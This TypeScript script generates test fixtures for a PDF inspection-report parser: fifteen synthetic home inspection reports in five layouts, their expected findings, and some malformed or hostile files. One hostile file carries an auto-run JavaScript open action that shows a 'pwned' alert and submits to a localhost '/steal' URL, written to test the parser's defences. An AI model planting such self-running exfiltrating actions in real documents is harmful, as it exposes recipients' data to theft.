/**
 * Writes the sample inspection reports of test/support/fixtures/reports/: fifteen reports in five
 * layouts (Spectora-style, HomeGauge-style numbered summary, InterNACHI narrative on two columns, a
 * one-column letter, the Texas TREC REI 7-6 form), printed from HTML by Chromium or drawn with pdf-lib
 * (which writes text in the order it is drawn, not the order it is read), and next to each its
 * expected findings (<name>.expected.json: section, service, page, safety, the finding's opening
 * words). Plus the small hostile files: scanned (image only), encrypted, truncated, not a PDF, and a
 * PDF with JavaScript and an open action. The two big hostile files (25.1 MB, decompression bomb) are
 * made at test time by test/support/reports/hostile.ts.
 *
 *   npx tsx scripts/reports/make-corpus.ts
 *
 * Every page of a report is its own block (a forced page break), so the page of each finding is known
 * when the report is written; the script reads each PDF back and checks that every finding is on it.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { PDFDocument, StandardFonts, rgb, PDFName, PDFString } from 'pdf-lib';
import { chromium } from 'playwright';
import type { ServiceCategory } from '@/lib/reports/categories';
import { BANK, BOILERPLATE_PARAGRAPHS, INFO_LINES, SYSTEM_TITLES, type BankFinding, type SystemKey } from './findings-bank';

export const CORPUS_DIR = path.join(process.cwd(), 'test', 'support', 'fixtures', 'reports');

type Block =
  | { kind: 'title' | 'h1' | 'h2' | 'p' | 'label' | 'small'; text: string }
  | { kind: 'trec'; boxes: [boolean, boolean, boolean, boolean]; text: string }
  | { kind: 'photo'; text: string }
  | { kind: 'columns'; left: Block[]; right: Block[] };

type Expected = { section: string; category: ServiceCategory; page: number; safety: boolean; opening: string };

type Report = { name: string; layout: string; generator: 'chromium' | 'pdf-lib'; header: string; footer: string; pages: Block[][]; expected: Expected[] };

const SYSTEM_ORDER: SystemKey[] = ['roof', 'exterior', 'structure', 'attic', 'electrical', 'plumbing', 'hvac', 'interior', 'kitchen', 'bathrooms', 'garage'];

/** A deterministic pick of findings: every `step`-th of the bank from `offset`, at most `count`. */
function pick(offset: number, step: number, count: number): BankFinding[] {
  const out: BankFinding[] = [];
  for (let index = offset; out.length < count && out.length < BANK.length; index += step) out.push(BANK[index % BANK.length] as BankFinding);
  return [...new Set(out)];
}

function opening(text: string): string {
  return text.slice(0, 60);
}

const LABELS = { spectora: (finding: BankFinding) => (finding.safety ? 'Safety Hazard' : finding.category === 'cosmetic' ? 'Maintenance Item' : 'Recommendation') };

function boilerplatePages(heading: string, count: number): Block[][] {
  const pages: Block[][] = [];
  for (let index = 0; index < count; index += 1) {
    pages.push([{ kind: 'h1', text: heading }, ...BOILERPLATE_PARAGRAPHS.slice(0, 4).map((text): Block => ({ kind: 'p', text: index % 2 ? text : `${text}` }))]);
  }
  return pages;
}

function photoPage(system: SystemKey, start: number): Block[] {
  return [0, 1, 2].map((offset): Block => ({ kind: 'photo', text: `Photo ${start + offset}: ${SYSTEM_TITLES[system]}, general view` }));
}

/** Pads a report to `target` pages with photo pages placed after the content they illustrate. */
function padWithPhotos(pages: Block[][], target: number, system: SystemKey = 'exterior') {
  let photo = 1;
  while (pages.length < target) {
    pages.push(photoPage(system, photo));
    photo += 3;
  }
}

function spectora(name: string, address: string, findings: BankFinding[], target: number): Report {
  const pages: Block[][] = [];
  const expected: Expected[] = [];
  pages.push([
    { kind: 'title', text: 'Home Inspection Report' },
    { kind: 'p', text: address },
    { kind: 'small', text: 'Inspector: Marcus Hale, Virginia Home Inspector License 3380001234' },
    { kind: 'h1', text: 'Table of Contents' },
    ...SYSTEM_ORDER.map((system, index): Block => ({ kind: 'small', text: `${index + 1}: ${SYSTEM_TITLES[system]} .......... ${index + 3}` })),
  ]);
  pages.push(...boilerplatePages('Inspection Agreement', 1));
  SYSTEM_ORDER.forEach((system, index) => {
    const page: Block[] = [{ kind: 'h1', text: `${index + 1}: ${SYSTEM_TITLES[system].toUpperCase()}` }, { kind: 'label', text: 'Inspected' }, ...INFO_LINES[system].map((text): Block => ({ kind: 'small', text }))];
    pages.push(page);
    let current = page;
    let count = 0;
    findings
      .filter((finding) => finding.system === system)
      .forEach((finding, number) => {
        if (count === 2) {
          current = [];
          pages.push(current);
          count = 0;
        }
        const label = LABELS.spectora(finding);
        current.push({ kind: 'label', text: label }, { kind: 'h2', text: `${index + 1}.1.${number + 1} ${finding.title}` }, { kind: 'p', text: finding.text });
        expected.push({ section: SYSTEM_TITLES[system], category: finding.category, page: pages.length, safety: Boolean(finding.safety), opening: opening(finding.text) });
        count += 1;
      });
  });
  padWithPhotos(pages, target);
  pages.push(...boilerplatePages('Standards of Practice', 1));
  return { name, layout: 'spectora', generator: 'chromium', header: `${address} — Home Inspection Report`, footer: 'Page {page} of {pages}', pages, expected };
}

function homegauge(name: string, address: string, findings: BankFinding[], target: number): Report {
  const pages: Block[][] = [];
  const expected: Expected[] = [];
  pages.push([
    { kind: 'title', text: 'Inspection Report' },
    { kind: 'p', text: `Property: ${address}` },
    { kind: 'small', text: 'Tidewater area inspection by Coastal Key Home Inspections, LLC' },
  ]);
  pages.push([{ kind: 'h1', text: 'Table of Contents' }, ...SYSTEM_ORDER.map((system, index): Block => ({ kind: 'small', text: `${index + 1} ${SYSTEM_TITLES[system]} . . . . . . . . . ${index + 5}` }))]);
  // The summary: numbered items under each system; the body below repeats them word for word.
  let summary: Block[] = [{ kind: 'h1', text: 'Summary' }];
  pages.push(summary);
  let onPage = 0;
  SYSTEM_ORDER.forEach((system, index) => {
    const items = findings.filter((finding) => finding.system === system);
    if (items.length === 0) return;
    if (onPage >= 4) {
      summary = [];
      pages.push(summary);
      onPage = 0;
    }
    summary.push({ kind: 'h2', text: `${index + 1}.1 ${SYSTEM_TITLES[system]}` });
    for (const finding of items) {
      summary.push({ kind: 'p', text: `Repair or Replace: ${finding.text}` });
      expected.push({ section: SYSTEM_TITLES[system], category: finding.category, page: pages.length, safety: Boolean(finding.safety), opening: opening(finding.text) });
      onPage += 1;
    }
  });
  SYSTEM_ORDER.forEach((system, index) => {
    const page: Block[] = [{ kind: 'h1', text: `${index + 1}. ${SYSTEM_TITLES[system]}` }, { kind: 'label', text: 'Inspected' }, ...INFO_LINES[system].map((text): Block => ({ kind: 'small', text }))];
    for (const finding of findings.filter((item) => item.system === system).slice(0, 3)) page.push({ kind: 'p', text: `Repair or Replace: ${finding.text}` });
    pages.push(page);
  });
  padWithPhotos(pages, target - 2);
  pages.push(...boilerplatePages('Limitations', 2));
  return { name, layout: 'homegauge', generator: 'pdf-lib', header: `Inspection Report, ${address}`, footer: 'Page {page} of {pages}', pages, expected };
}

function internachi(name: string, address: string, findings: BankFinding[], target: number): Report {
  const pages: Block[][] = [];
  const expected: Expected[] = [];
  pages.push([{ kind: 'title', text: 'Residential Inspection Report' }, { kind: 'p', text: `Prepared for the buyers of ${address}` }, { kind: 'small', text: 'InterNACHI Certified Professional Inspector' }]);
  pages.push([{ kind: 'h1', text: 'Standards of Practice' }, ...BOILERPLATE_PARAGRAPHS.map((text): Block => ({ kind: 'p', text }))]);
  // Two systems per page, one in each column, each with its narrative.
  for (let index = 0; index < SYSTEM_ORDER.length; index += 2) {
    const columns: Block[][] = [];
    for (const system of SYSTEM_ORDER.slice(index, index + 2)) {
      const column: Block[] = [{ kind: 'h2', text: SYSTEM_TITLES[system] }, { kind: 'p', text: INFO_LINES[system].join(' ') }];
      for (const finding of findings.filter((item) => item.system === system).slice(0, 3)) {
        column.push({ kind: 'p', text: finding.text });
        expected.push({ section: SYSTEM_TITLES[system], category: finding.category, page: pages.length + 1, safety: Boolean(finding.safety), opening: opening(finding.text) });
      }
      columns.push(column);
    }
    pages.push([{ kind: 'columns', left: columns[0] ?? [], right: columns[1] ?? [] }]);
  }
  padWithPhotos(pages, target);
  return { name, layout: 'internachi', generator: 'chromium', header: address, footer: '{page}', pages, expected };
}

function letter(name: string, address: string, client: string, findings: BankFinding[], target: number): Report {
  const pages: Block[][] = [];
  const expected: Expected[] = [];
  let page: Block[] = [
    { kind: 'p', text: 'Bayside Inspection Services, Hampton, Virginia' },
    { kind: 'p', text: `Re: Home inspection of ${address}` },
    { kind: 'p', text: `Dear ${client},` },
    { kind: 'p', text: 'Thank you for choosing us to inspect the home. Below are the conditions we observed that need attention, by system. A copy of our terms is attached at the end of this letter.' },
  ];
  pages.push(page);
  let count = 0;
  for (const system of SYSTEM_ORDER) {
    const items = findings.filter((finding) => finding.system === system);
    if (items.length === 0) continue;
    if (count >= 3) {
      page = [];
      pages.push(page);
      count = 0;
    }
    page.push({ kind: 'h2', text: SYSTEM_TITLES[system] });
    for (const finding of items) {
      page.push({ kind: 'p', text: finding.text });
      expected.push({ section: SYSTEM_TITLES[system], category: finding.category, page: pages.length, safety: Boolean(finding.safety), opening: opening(finding.text) });
      count += 1;
    }
  }
  pages.push([{ kind: 'p', text: 'Please call me with any questions about this letter.' }, { kind: 'p', text: 'Sincerely, Daniel Okafor, Class A Home Inspector' }]);
  padWithPhotos(pages, target - 1);
  pages.push(...boilerplatePages('Terms and Conditions', 1));
  return { name, layout: 'letter', generator: 'pdf-lib', header: 'Bayside Inspection Services', footer: '- {page} -', pages, expected };
}

const TREC_ROWS: Record<SystemKey, [string, string]> = {
  structure: ['I. STRUCTURAL SYSTEMS', 'A. Foundations'],
  exterior: ['I. STRUCTURAL SYSTEMS', 'B. Grading and Drainage'],
  roof: ['I. STRUCTURAL SYSTEMS', 'C. Roof Covering Materials'],
  attic: ['I. STRUCTURAL SYSTEMS', 'D. Roof Structures and Attics'],
  interior: ['I. STRUCTURAL SYSTEMS', 'E. Walls (Interior and Exterior)'],
  garage: ['I. STRUCTURAL SYSTEMS', 'G. Doors (Interior and Exterior)'],
  electrical: ['II. ELECTRICAL SYSTEMS', 'A. Service Entrance and Panels'],
  hvac: ['III. HEATING, VENTILATION AND AIR CONDITIONING SYSTEMS', 'A. Heating Equipment'],
  plumbing: ['IV. PLUMBING SYSTEMS', 'A. Plumbing Supply, Distribution Systems and Fixtures'],
  bathrooms: ['IV. PLUMBING SYSTEMS', 'B. Drains, Wastes, and Vents'],
  kitchen: ['V. APPLIANCES', 'C. Ranges, Cooktops, and Ovens'],
};

function trec(name: string, address: string, findings: BankFinding[], target: number): Report {
  const pages: Block[][] = [];
  const expected: Expected[] = [];
  pages.push([
    { kind: 'title', text: 'PROPERTY INSPECTION REPORT FORM' },
    { kind: 'p', text: `${address}, Date of Inspection: October 14, 2026` },
    { kind: 'h1', text: 'Important Notice' },
    { kind: 'p', text: BOILERPLATE_PARAGRAPHS[2] as string },
    { kind: 'p', text: BOILERPLATE_PARAGRAPHS[0] as string },
  ]);
  pages.push([{ kind: 'h1', text: 'Additional Information Provided by Inspector' }, { kind: 'p', text: BOILERPLATE_PARAGRAPHS[4] as string }, { kind: 'p', text: BOILERPLATE_PARAGRAPHS[1] as string }]);
  let major = '';
  for (const system of ['structure', 'exterior', 'roof', 'attic', 'interior', 'garage', 'electrical', 'hvac', 'plumbing', 'bathrooms', 'kitchen'] as SystemKey[]) {
    const [heading, row] = TREC_ROWS[system];
    const items = findings.filter((finding) => finding.system === system);
    const page: Block[] = [{ kind: 'label', text: 'I NI NP D' }];
    if (heading !== major) {
      page.push({ kind: 'h1', text: heading });
      major = heading;
    }
    page.push({ kind: 'trec', boxes: [true, false, false, items.length > 0], text: row }, { kind: 'label', text: 'Comments:' }, { kind: 'small', text: INFO_LINES[system][0] as string });
    pages.push(page);
    for (const finding of items) {
      page.push({ kind: 'p', text: finding.text });
      expected.push({ section: row.slice(3), category: finding.category, page: pages.length, safety: Boolean(finding.safety), opening: opening(finding.text) });
    }
    pages.push([{ kind: 'label', text: 'I NI NP D' }, { kind: 'trec', boxes: [true, false, false, false], text: 'F. Ceilings and Floors' }, { kind: 'label', text: 'Comments:' }, { kind: 'small', text: 'Ceilings and floors are in serviceable condition.' }]);
  }
  padWithPhotos(pages, target);
  return { name, layout: 'trec', generator: 'chromium', header: `Report Identification: ${address}`, footer: 'REI 7-6 (8/9/21) Page {page} of {pages}', pages, expected };
}

export const REPORTS: Report[] = [
  spectora('spectora-hampton', '214 Kecoughtan Road, Hampton, VA 23661', pick(0, 7, 6), 14),
  spectora('spectora-newport-news', '1187 Warwick Boulevard, Newport News, VA 23601', pick(1, 3, 14), 24),
  spectora('spectora-yorktown', '305 Old Wormley Creek Road, Yorktown, VA 23692', pick(2, 2, 20), 60),
  homegauge('homegauge-norfolk', '4410 Colley Avenue, Norfolk, VA 23508', pick(3, 5, 8), 8),
  homegauge('homegauge-chesapeake', '812 Battlefield Boulevard South, Chesapeake, VA 23322', pick(4, 3, 13), 40),
  homegauge('homegauge-hampton', '57 Fox Hill Road, Hampton, VA 23669', pick(0, 1, 30), 150),
  internachi('internachi-norfolk', '1320 Granby Street, Norfolk, VA 23510', pick(5, 4, 10), 12),
  internachi('internachi-yorktown', '118 Water Street, Yorktown, VA 23690', pick(6, 3, 12), 20),
  internachi('internachi-newport-news', '90 Hidenwood Drive, Newport News, VA 23606', pick(7, 6, 7), 6),
  letter('letter-chesapeake', '2209 Great Bridge Road, Chesapeake, VA 23320', 'Ms. Renee Alvarez', pick(8, 9, 5), 5),
  letter('letter-hampton', '33 Chesapeake Avenue, Hampton, VA 23661', 'Mr. and Mrs. Boyd', pick(9, 4, 9), 9),
  letter('letter-norfolk', '7602 Shore Drive, Norfolk, VA 23518', 'Dr. Priya Natarajan', pick(10, 5, 8), 16),
  trec('trec-newport-news', '614 Deep Creek Road, Newport News, VA 23606', pick(11, 2, 12), 30),
  trec('trec-chesapeake', '1500 Mount Pleasant Road, Chesapeake, VA 23322', pick(12, 3, 14), 60),
  trec('trec-yorktown', '221 Goodwin Neck Road, Yorktown, VA 23692', pick(13, 4, 9), 26),
];

function escape(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

function blockHtml(block: Block): string {
  switch (block.kind) {
    case 'title':
      return `<h1 class="title">${escape(block.text)}</h1>`;
    case 'h1':
      return `<h2>${escape(block.text)}</h2>`;
    case 'h2':
      return `<h3>${escape(block.text)}</h3>`;
    case 'label':
      return `<div class="label">${escape(block.text)}</div>`;
    case 'small':
      return `<div class="small">${escape(block.text)}</div>`;
    case 'p':
      return `<p>${escape(block.text)}</p>`;
    case 'photo':
      return `<figure><svg width="360" height="150" viewBox="0 0 360 150"><rect width="360" height="150" fill="#9aa7b0"/><path d="M0 150 L120 60 L200 120 L260 80 L360 150Z" fill="#5c6b73"/></svg><figcaption>${escape(block.text)}</figcaption></figure>`;
    case 'trec':
      return `<table class="trec"><tr>${block.boxes.map((box) => `<td class="box">${box ? '☒' : '☐'}</td>`).join('')}<td><strong>${escape(block.text)}</strong></td></tr></table>`;
    case 'columns':
      return `<div class="columns"><div>${block.left.map(blockHtml).join('')}</div><div>${block.right.map(blockHtml).join('')}</div></div>`;
  }
}

async function chromiumPdf(report: Report, browser: Awaited<ReturnType<typeof chromium.launch>>): Promise<Uint8Array> {
  const html = `<!doctype html><html><head><meta charset="utf-8"><style>
    body { font-family: 'DejaVu Sans', Arial, sans-serif; font-size: 10.5pt; color: #222; margin: 0; }
    .page { break-after: page; }
    .page:last-child { break-after: auto; }
    h1.title { font-size: 22pt; } h2 { font-size: 15pt; margin: 10px 0 6px; } h3 { font-size: 12pt; margin: 10px 0 4px; }
    .label { display: inline-block; background: ${report.layout === 'spectora' ? '#f4c542' : '#eee'}; padding: 2px 6px; font-weight: bold; margin-top: 8px; }
    .small { font-size: 9pt; margin: 2px 0; } p { margin: 6px 0 10px; line-height: 1.35; }
    .columns { display: grid; grid-template-columns: 1fr 1fr; gap: 36px; } figure { margin: 8px 0; }
    table.trec td.box { width: 24px; text-align: center; font-size: 13pt; }
  </style></head><body>${report.pages.map((page) => `<section class="page">${page.map(blockHtml).join('')}</section>`).join('')}</body></html>`;
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.setContent(html);
  const footer = escape(report.footer).replace('{page}', '<span class="pageNumber"></span>').replace('{pages}', '<span class="totalPages"></span>');
  const pdf = await page.pdf({
    format: 'Letter',
    margin: { top: '0.8in', bottom: '0.8in', left: '0.7in', right: '0.7in' },
    displayHeaderFooter: true,
    headerTemplate: `<div style="font-size:8pt;width:100%;text-align:center;font-family:Arial">${escape(report.header)}</div>`,
    footerTemplate: `<div style="font-size:8pt;width:100%;text-align:center;font-family:Arial">${footer}</div>`,
  });
  await context.close();
  return new Uint8Array(pdf);
}

/** Lines wrapped to a width in points with a standard font. */
function wrap(text: string, font: Awaited<ReturnType<PDFDocument['embedFont']>>, size: number, width: number): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    const next = line ? `${line} ${word}` : word;
    if (font.widthOfTextAtSize(next, size) > width && line) {
      lines.push(line);
      line = word;
    } else line = next;
  }
  if (line) lines.push(line);
  return lines;
}

async function pdfLibPdf(report: Report): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.setTitle(report.header);
  const regular = await document.embedFont(StandardFonts.Helvetica);
  const bold = await document.embedFont(StandardFonts.HelveticaBold);
  const total = report.pages.length;
  report.pages.forEach((blocks, index) => {
    const page = document.addPage([612, 792]);
    // The footer is drawn first and the header last: the content stream's order is not the reading order.
    page.drawText(report.footer.replace('{page}', String(index + 1)).replace('{pages}', String(total)), { x: 270, y: 30, size: 8, font: regular });
    let y = 730;
    for (const block of blocks) {
      if (block.kind === 'photo') {
        page.drawRectangle({ x: 72, y: y - 150, width: 300, height: 140, color: rgb(0.6, 0.65, 0.7) });
        y -= 164;
        page.drawText(block.text, { x: 72, y, size: 9, font: regular });
        y -= 24;
        continue;
      }
      if (block.kind === 'trec' || block.kind === 'columns') throw new Error('not drawn by pdf-lib');
      const size = block.kind === 'title' ? 20 : block.kind === 'h1' ? 15 : block.kind === 'h2' ? 12 : block.kind === 'small' ? 9 : 10.5;
      const font = block.kind === 'p' || block.kind === 'small' ? regular : bold;
      const lines = wrap(block.text, font, size, 468);
      if (block.kind !== 'p' && block.kind !== 'small') y -= 8;
      for (const line of lines) {
        page.drawText(line, { x: 72, y, size, font });
        y -= size * 1.35;
      }
      y -= block.kind === 'p' ? size * 1.2 : 4;
      if (y < 80) throw new Error(`${report.name}: page ${index + 1} overflows`);
    }
    page.drawText(report.header, { x: 72, y: 760, size: 8, font: regular });
  });
  return document.save();
}

/** The text of each page as pdf.js reads it, for the check that each finding is where the list says. */
async function pageTexts(bytes: Uint8Array): Promise<string[]> {
  const { getDocument } = await import('pdfjs-dist/legacy/build/pdf.mjs');
  const document = await getDocument({ data: new Uint8Array(bytes), isEvalSupported: false, verbosity: 0 }).promise;
  const texts: string[] = [];
  for (let number = 1; number <= document.numPages; number += 1) {
    const content = await (await document.getPage(number)).getTextContent();
    texts.push(content.items.map((item) => ('str' in item ? item.str : '')).join(' ').replace(/\s+/g, ' '));
  }
  await document.destroy();
  return texts;
}

async function hostileFiles(browser: Awaited<ReturnType<typeof chromium.launch>>) {
  // Scanned: a page that is one picture, no text layer.
  const scanned = await PDFDocument.create();
  const context = await browser.newContext({ viewport: { width: 612, height: 792 } });
  const page = await context.newPage();
  await page.setContent('<body style="margin:40px;font:14px serif"><h1>Home Inspection Report</h1><p>Roof: several shingles damaged at the rear slope. Recommend repair by a roofer.</p></body>');
  const picture = await scanned.embedPng(await page.screenshot({ type: 'png' }));
  await context.close();
  for (let index = 0; index < 3; index += 1) scanned.addPage([612, 792]).drawImage(picture, { x: 0, y: 0, width: 612, height: 792 });
  await writeFile(path.join(CORPUS_DIR, 'hostile', 'scanned-image-only.pdf'), await scanned.save());

  // JavaScript and an open action: a document that would alert and open a page if a viewer ran it.
  const scripted = await PDFDocument.create();
  const font = await scripted.embedFont(StandardFonts.Helvetica);
  const scriptedPage = scripted.addPage([612, 792]);
  scriptedPage.drawText('Roof', { x: 72, y: 700, size: 14, font });
  scriptedPage.drawText('Repair: The flashing at the chimney is loose. Recommend a roofer repair the flashing.', { x: 72, y: 670, size: 10, font });
  const action = scripted.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of("app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');") });
  scripted.catalog.set(PDFName.of('OpenAction'), scripted.context.register(action));
  await writeFile(path.join(CORPUS_DIR, 'hostile', 'javascript-open-action.pdf'), await scripted.save());

  // Encrypted: the standard security handler's dictionary in the trailer (pdf.js then asks for a password).
  const plain = await PDFDocument.create();
  plain.addPage([612, 792]).drawText('Confidential inspection report', { x: 72, y: 700, size: 12, font: await plain.embedFont(StandardFonts.Helvetica) });
  const plainBytes = Buffer.from(await plain.save({ useObjectStreams: false }));
  const encrypt = '999 0 obj\n<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1084 /O <' + 'a'.repeat(64) + '> /U <' + 'b'.repeat(64) + '> >>\nendobj\n';
  const text = plainBytes.toString('latin1');
  const xref = text.lastIndexOf('\nxref\n') + 1;
  // The cross-reference table does not list the new object: pdf.js rebuilds it, as it does for many real files.
  const withEncrypt = text.slice(0, xref) + encrypt + text.slice(xref).replace('trailer\n<<', `trailer\n<<\n/Encrypt 999 0 R\n/ID [<${'c'.repeat(32)}> <${'c'.repeat(32)}>]`);
  await writeFile(path.join(CORPUS_DIR, 'hostile', 'encrypted.pdf'), Buffer.from(withEncrypt, 'latin1'));

  // Truncated: the first 40% of a real report (the download that stopped).
  const whole = await pdfLibPdf(homegauge('truncated', '12 Main Street, Hampton, VA 23669', pick(0, 5, 5), 6));
  await writeFile(path.join(CORPUS_DIR, 'hostile', 'truncated.pdf'), whole.slice(0, Math.floor(whole.length * 0.4)));

  // Not a PDF: a Word-style ZIP renamed .pdf, and a text file.
  await writeFile(path.join(CORPUS_DIR, 'hostile', 'renamed-docx.pdf'), Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(400, 7)]));
  await writeFile(path.join(CORPUS_DIR, 'hostile', 'empty.pdf'), Buffer.alloc(0));
}

async function main() {
  await mkdir(path.join(CORPUS_DIR, 'hostile'), { recursive: true });
  const browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH || '/usr/bin/chromium', args: ['--no-sandbox'] });
  try {
    for (const report of REPORTS) {
      const bytes = report.generator === 'chromium' ? await chromiumPdf(report, browser) : await pdfLibPdf(report);
      const texts = await pageTexts(bytes);
      if (texts.length !== report.pages.length) throw new Error(`${report.name}: ${texts.length} pages printed, ${report.pages.length} written`);
      for (const item of report.expected) {
        // Compared without spaces and with ligatures unfolded: Chromium prints 'fi' as one glyph.
        const words = item.opening.split(' ').slice(0, 4).join('');
        const text = (texts[item.page - 1] ?? '').normalize('NFKC').replace(/\s+/g, '');
        if (!text.includes(words)) throw new Error(`${report.name}: "${item.opening}" is not on page ${item.page}: ${texts[item.page - 1]?.slice(0, 300)}`);
      }
      await writeFile(path.join(CORPUS_DIR, `${report.name}.pdf`), bytes);
      const { name, layout, generator, expected } = report;
      await writeFile(path.join(CORPUS_DIR, `${name}.expected.json`), `${JSON.stringify({ name, layout, generator, pages: texts.length, items: expected }, null, 2)}\n`);
      console.log(`${name}: ${texts.length} pages, ${expected.length} findings, ${Math.round(bytes.length / 1024)} KB`);
    }
    await hostileFiles(browser);
  } finally {
    await browser.close();
  }
}

if (process.argv[1] && import.meta.url.endsWith(path.basename(process.argv[1]))) {
  main().catch((error) => {
    console.error(error);
    process.exit(1);
  });
}
